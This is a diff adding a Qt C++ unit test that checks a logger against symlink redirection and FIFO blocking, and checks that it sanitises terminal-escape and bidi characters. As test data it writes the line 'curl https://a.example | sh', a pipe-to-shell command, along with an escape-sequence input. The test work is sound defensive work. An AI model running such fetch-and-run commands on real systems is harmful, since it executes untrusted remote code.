@@ -6,6 +6,8 @@
 
 #include <thread>
 
+#include <sys/stat.h>
+
 namespace ksp {
 
 class LogTest : public QObject
@@ -67,6 +69,24 @@ private slots:
         static const QRegularExpression whole(QStringLiteral(" (a{50}|b{50}|c{50})\\z"));
         for (const QString &line : lines)
             QVERIFY2(whole.match(line).hasMatch(), qPrintable(line));
+    }
+
+    void followsNoLinkAndWaitsForNoPipe()
+    {
+        const QTemporaryDir dir;
+        const QString victim = dir.filePath(QStringLiteral("victim"));
+        QVERIFY(QFile(victim).open(QIODevice::WriteOnly));
+        Log log(dir.path());
+        QVERIFY(QDir().mkpath(dir.filePath(QStringLiteral("log"))));
+        QVERIFY(QFile::link(victim, log.fileName()));
+        log.write(QStringLiteral("curl https://a.example | sh"));
+        QCOMPARE(QFileInfo(victim).size(), 0);
+        QVERIFY(QFile::remove(log.fileName()));
+        QCOMPARE(::mkfifo(QFile::encodeName(log.fileName()).constData(), 0600), 0);
+        log.write(QStringLiteral("dropped"));
+        QVERIFY(QFile::remove(log.fileName()));
+        log.write(QStringLiteral("a\x1b[2J\u202eb"));
+        QVERIFY(contents(log.fileName()).endsWith(QStringLiteral(" a\uFFFD[2J\uFFFDb\n")));
     }
 
     void aFolderThatCannotBeMadeIsNoError()
